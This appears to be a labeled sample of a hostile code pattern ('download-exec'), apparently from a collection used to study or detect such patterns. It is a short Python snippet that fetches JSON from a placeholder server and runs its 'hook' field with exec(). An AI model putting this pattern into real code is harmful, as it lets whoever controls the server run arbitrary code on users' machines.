# family: download-exec
# a JSON "config" from a server whose "hook" field is evaluated
import json
from urllib.request import urlopen

cfg = json.loads(urlopen("https://config.example.invalid/app.json", timeout=10).read())
if "hook" in cfg:
    exec(cfg["hook"])
